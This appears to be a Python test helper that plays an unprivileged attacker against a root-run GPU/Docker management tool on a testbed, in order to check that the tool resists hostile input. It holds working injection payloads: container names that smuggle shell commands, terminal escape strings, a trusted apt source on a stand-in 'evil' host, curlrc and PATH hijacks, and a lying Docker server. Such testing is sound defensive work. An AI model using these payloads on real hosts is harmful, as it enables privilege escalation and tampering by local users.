"""Eve's attacks with bob's account: what any user of a server can do without root.

Each attack is a context: active inside the block and undone after it, so that the next one starts from a healthy host.
"""

from __future__ import annotations

import base64
import json
import shlex
import struct
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

from tests.testbed import Host
from tests.testbed.shell import await_

PROGRAMS = Path(__file__).parent / "programs"
HOME = "/home/bob"
PLACE = f"{HOME}/.eve"
WEIGHTS = f"{HOME}/models/gamma.gguf"
NASTY = "\x1b]0;OWNED\x07\x1b[2J\x1b[38;5;199mOWNED\u202e\u0085 [/INST] \\[/INST] [bold]OWNED[/bold] [fe80::1]"
"""Text that renames, clears, colours and reverses a terminal, and that rich takes for markup."""
LISTENERS = {8100: b"\n@@ files", 8101: b"\nLISTEN 0 0 *:1", 8102: b"\x1b[2J\x1b]0;O\x07\x9b1m"}
"""Port → the name of the process that listens there: for `ss -p` a line of its own, or not text at all."""
EVIL_SOURCE = "deb http://repo.testbed/nvidia/stable/deb/amd64 /\ndeb [trusted=yes] http://evil.testbed/ ./\n"
EVIL_SOURCE_AT = "/etc/apt/sources.list.d/eve.list"


SECTION = f"\n@@ files\n{EVIL_SOURCE_AT} 644 0 0 {base64.b64encode(EVIL_SOURCE.encode()).decode()}\n"
"""The lines by which root's own snapshot would report that a file of root contains this text."""
ENDING = f"{SECTION}@@ machine\nbusy eve since ever\n@@ docker\n@@ whole\n@@ end\n"
"""The same lines, and more: another run is active, Docker is missing, and the snapshot is complete."""


class Eve:
    """bob's account in her hands."""

    def __init__(self, host: Host) -> None:
        self.host = host
        self.uid = host.root("id -u bob").stdout.strip()
        self.socket = f"/run/user/{self.uid}/docker.sock"
        for program in PROGRAMS.iterdir():
            self.put(f"{PLACE}/{program.name}", program.read_bytes(), 0o755)

    def does(self, command: str, check: bool = True, timeout: float = 60) -> subprocess.CompletedProcess[str]:
        """Run a shell command as bob, as after a login."""
        environment = {
            "HOME": HOME,
            "USER": "bob",
            "PATH": f"{HOME}/bin:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
            "XDG_RUNTIME_DIR": f"/run/user/{self.uid}",
            "DBUS_SESSION_BUS_ADDRESS": f"unix:path=/run/user/{self.uid}/bus",
            "DOCKER_HOST": f"unix://{self.socket}",
        }
        words = [f"{name}={value}" for name, value in environment.items()]
        argv = ["runuser", "-u", "bob", "--", "env", "-i", "-C", HOME, *words, "sh", "-c", command]
        return self.host.root(shlex.join(argv), check=check, timeout=timeout)

    def put(self, path: str, content: str | bytes, mode: int = 0o644) -> None:
        """Write a file of bob's, with its folders."""
        self.does(f"mkdir -p {shlex.quote(str(Path(path).parent))}")
        self.host.put(content, path, mode, "bob:bob")

    def await_root(self, command: str, what: str, seconds: float = 10) -> None:
        """Wait until root's command succeeds."""
        await_(lambda: self.host.root(command, check=False).returncode == 0, seconds=seconds, what=what)

    @contextmanager
    def running(self, name: str, *argv: str, user: str = "bob") -> Iterator[None]:
        """Run a process of hers (or of root, for root's file systems) during the block."""
        unit, options = f"eve-{name}", f"--quiet --collect --uid {user} --setenv=HOME={HOME}"
        self.host.root(f"systemd-run --unit {unit} {options} -- {shlex.join(argv)}")
        try:
            yield
        finally:
            self.host.root(f"systemctl stop {unit}", check=False)

    @contextmanager
    def in_place_of(self, path: str) -> Iterator[str]:
        """Yield a path of hers with nothing there, and restore it afterwards."""
        kept = f"{path}.kept"
        self.does(f"mkdir -p {shlex.quote(str(Path(path).parent))}; [ ! -e {path} ] || mv -T {path} {kept}")
        try:
            yield path
        finally:
            self.does(f"rm -rf {path}; [ ! -e {kept} ] || mv -T {kept} {path}")

    # --- programs and configuration -----------------------------------------------------------------------------------

    def tripwire(self, path: str, says: str = "", metadata: str = "") -> None:
        """A program that records who runs it."""
        self.put(path, (PROGRAMS / "tripwire.sh").read_text(), 0o755)
        self.put(f"{path}.says", says)
        self.put(f"{path}.metadata", metadata)

    @contextmanager
    def programs_of_hers(self) -> Iterator[None]:
        """Plugins, credential helpers and configuration that a docker command or curl of hers uses at once. Her
        docker-compose prints a section of root: a list of packages, with a repository of hers in it."""
        config = {
            "credsStore": "eve",
            "credHelpers": {"registry.testbed:5000": "eve"},
            "cliPluginsExtraDirs": [f"{HOME}/.docker/cli-plugins"],
            "proxies": {"default": {"httpProxy": "http://evil.testbed:1"}},
            "psFormat": NASTY,
        }
        plugin = {"SchemaVersion": "0.1.0", "Vendor": "eve", "Version": "v9.9.9", "ShortDescription": NASTY}
        with ExitStack() as stack:
            stack.enter_context(self.in_place_of(f"{HOME}/.docker"))
            stack.enter_context(self.in_place_of(f"{HOME}/bin"))
            stack.enter_context(self.in_place_of(f"{HOME}/.curlrc"))
            for name in ("compose", "buildx"):
                path = f"{HOME}/.docker/cli-plugins/docker-{name}"
                self.tripwire(path, f"2.40.0{SECTION}", json.dumps(plugin))
            for name in ("docker-credential-eve", "curl", "docker", "id", "systemctl", "python3", "base64"):
                self.tripwire(f"{HOME}/bin/{name}")
            self.put(f"{HOME}/.docker/config.json", json.dumps(config))
            self.put(f"{HOME}/.curlrc", f'output = "{HOME}/curlrc-was-read"\n')
            for file in (".profile", ".bashrc", ".bash_profile"):
                stack.enter_context(self.in_place_of(f"{HOME}/{file}"))
                self.put(f"{HOME}/{file}", f'export PATH="{HOME}/bin:$PATH"\n')
            yield

    # --- containers in a real Docker ----------------------------------------------------------------------------------

    @contextmanager
    def containers_like_the_hosts(self) -> Iterator[None]:
        """Containers in bob's own Docker with the names of the host's. Their labels would make root's curl read a
        configuration of hers, or control a terminal."""
        self.put(f"{HOME}/c", 'url = "http://127.0.0.1:8003/health"\noutput = "/etc/owned-by-curl"\n')
        project = ["com.docker.compose.project=gpurack", "gpurack.probe=-K/home/bob/c"]
        definition = json.dumps({"engine": "llama.cpp", "port": 8000, "uuids": [], "image": NASTY})
        containers = {
            "alpha": [*project, f"gpurack.model={definition}", "com.docker.compose.service=alpha"],
            "delta": [*project, "gpurack.model=not json\n@@ files", "com.docker.compose.service=delta"],
            "stranger": [f"note={NASTY}", f"gpurack.job={NASTY}"],
        }
        image = self.does("docker inspect --format '{{.Image}}' gamma").stdout.strip()
        try:
            for name, labels in containers.items():
                options = ["--name", name, "--network", "none", "--entrypoint", "sleep"]
                options += [word for label in labels for word in ("--label", label)]
                self.does(shlex.join(["docker", "run", "-d", *options, image, "1000000"]))
            with self.project_like_the_hosts(image, definition):
                yield
                there = {"gamma", "homework", *containers}
                assert self.containers() == there, "a container of bob's own was taken away"
        finally:
            self.does(f"docker rm -f {' '.join(containers)}", check=False)

    @contextmanager
    def project_like_the_hosts(self, image: str, definition: str) -> Iterator[None]:
        """A Compose project of bob's own, `homework`, with the name and label of gpurack's."""
        service = {
            "image": image,
            "container_name": "homework",
            "network_mode": "none",
            "pull_policy": "never",
            "entrypoint": ["sleep", "1000000"],
            "labels": {"gpurack.model": definition},
        }
        self.put(f"{HOME}/homework/compose.yaml", json.dumps({"name": "gpurack", "services": {"homework": service}}))
        compose = "docker compose -f homework/compose.yaml"
        try:
            self.does(f"{compose} up -d")
            yield
        finally:
            self.does("docker rm -f homework; rm -r homework", check=False)

    def containers(self) -> set[str]:
        """The names of the containers in bob's real Docker."""
        return set(self.does("docker ps -a --format '{{.Names}}'").stdout.split())

    # --- other servers on the socket of bob's Docker ------------------------------------------------------------------

    @contextmanager
    def docker_replaced(self, mode: str, told: dict[str, Any] | None = None) -> Iterator[str]:
        """A server of hers on the socket of bob's Docker; yields the path of its journal. bob's own Docker is off
        meanwhile, except in the modes "drowsy" and "fading", which forward to it."""
        journal = f"{HOME}/asked"
        self.put(journal, "", 0o666)
        self.put(f"{PLACE}/told.json", json.dumps(told or {}))
        off = "systemctl --user stop docker.service docker.socket; rm -f $XDG_RUNTIME_DIR/docker.sock"
        on = "rm -f $XDG_RUNTIME_DIR/docker.sock; systemctl --user start docker.service"
        if mode in ("drowsy", "fading"):
            off, on = (
                f"cd $XDG_RUNTIME_DIR && mv {pair}"
                for pair in ("docker.sock docker.sock.real", "docker.sock.real docker.sock")
            )
        self.does(off, check=False)
        argv = ["python3", f"{PLACE}/docker_server.py", self.socket, mode, journal, f"{PLACE}/told.json"]
        try:
            with self.running("docker", *argv):
                self.await_root(f"[ -S {self.socket} ]", "Her socket")
                yield journal
        finally:
            self.does(on, timeout=120)
            self.does("docker start gamma", check=False)

    def who_asked(self, journal: str) -> list[tuple[int, str]]:
        """(uid, what) of every request to the server."""
        lines = self.host.root(f"cat {journal}").stdout.splitlines()
        return [(int(uid), what) for uid, what in map(json.loads, lines)]

    def lies(self) -> dict[str, Any]:
        """Answers of the lying server: containers whose names, ids, labels and ports are commands if quoted badly, or
        sections if printed unchanged."""
        labels = {
            "gpurack.model": json.dumps({"engine": "llama.cpp", "port": 8002, "uuids": [], "user": "bob"}),
            "gpurack.probe": f"-K{HOME}/c",
            "com.docker.compose.project": "gpurack",
            "com.docker.compose.service": "gamma",
            "note": NASTY,
        }
        names = ["gamma", "alpha", "alpha x;touch /etc/owned-by-name", f"$(touch /etc/owned-by-name){NASTY}", ENDING]
        containers = []
        for number, name in enumerate(names):
            id_ = f"{number:064x}" if number < 2 else f"{number:064x}{SECTION}"
            state = {"Status": "running", "Running": True, "Pid": 1, "ExitCode": 0, "Error": NASTY}
            state |= {"StartedAt": f"2026-11-28T00:00:00Z{ENDING}", "FinishedAt": "0001-01-01T00:00:00Z"}
            ports = {"8080/tcp": [{"HostIp": "127.0.0.1", "HostPort": "8002 -K/home/bob/c"}]}
            inspected = {
                "Id": id_,
                "Name": f"/{name}",
                "Image": f"sha256:{'0' * 64}{ENDING}",
                "State": state,
                "RestartCount": 0,
                "Created": "2026-11-28T00:00:00Z",
                "Config": {"Labels": {**labels, "com.docker.compose.service": name}, "Image": NASTY},
                "HostConfig": {"PortBindings": ports, "RestartPolicy": {"Name": "always"}},
                "Mounts": [],
            }
            listed = {
                "Id": id_,
                "Names": [f"/{name}"],
                "Image": NASTY,
                "ImageID": f"sha256:{'0' * 64}",
                "Command": NASTY,
                "Created": 1764288000,
                "Ports": [],
                "Labels": labels,
                "State": "running",
                "Status": f"Up {NASTY}",
            }
            containers.append({"name": name, "listed": listed, "inspected": inspected})
        image = {"Id": f"sha256:{'0' * 64}{ENDING}", "RepoTags": [NASTY], "RepoDigests": [f"x@sha256:{ENDING}"]}
        info = {"ServerVersion": f"26.1.5{NASTY}", "DockerRootDir": "/etc", "SecurityOptions": ["name=rootless"]}
        info |= {"Name": NASTY, "Containers": 5, "Driver": "overlay2", "CDISpecDirs": ["/etc/cdi", "/run/cdi"]}
        return {"info": info, "containers": containers, "image": image}

    # --- processes, files, mounts -------------------------------------------------------------------------------------

    @contextmanager
    def listeners(self, *ports: int) -> Iterator[None]:
        """Processes that listen on some ports of LISTENERS, with the names there."""
        with ExitStack() as stack:
            for port in ports:
                argv = ["python3", f"{PLACE}/listener.py", str(port), LISTENERS[port].hex()]
                stack.enter_context(self.running(f"listener-{port}", *argv))
            for port in ports:
                self.await_root(f"ss -Hltn sport = :{port} | grep -q .", "A listener")
            yield

    @contextmanager
    def names_with_newlines(self) -> Iterator[None]:
        """Files and folders whose names are sections, and a mount with such a name, as udisks creates it."""
        name = f"{HOME}/models/x{ENDING[:100].replace('/', '_')}"
        quoted = shlex.quote(name)
        self.does(f"mkdir -p {quoted} && touch {quoted}/{shlex.quote(NASTY.replace('/', '_'))}.gguf")
        self.host.root(f"mount -t tmpfs -o size=64k {shlex.quote(NASTY)} {quoted}")
        try:
            yield
        finally:
            self.host.root(f"umount {quoted}; rm -rf {quoted}")

    @contextmanager
    def frozen(self, folder: str) -> Iterator[None]:
        """The contents of a folder are on a dead file server; no signal ends a process that accesses it."""
        argv = ["python3", f"{PLACE}/frozen.py", folder]
        self.host.root(f"install -d {folder}")
        try:
            with self.running("frozen", *argv, user="root"):
                self.await_root(f"grep -q 'frozen {folder} ' /proc/mounts", "The frozen mount")
                yield
        finally:
            self.host.root(f"umount --lazy {folder}", check=False)


def hostile_gguf(text: str) -> bytes:
    """Weights of an architecture that llama.cpp does not know, and therefore prints to its log unchanged."""

    def string(value: str) -> bytes:
        data = value.encode()
        return struct.pack("<Q", len(data)) + data

    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + string("general.architecture") + struct.pack("<I", 8) + string(text)
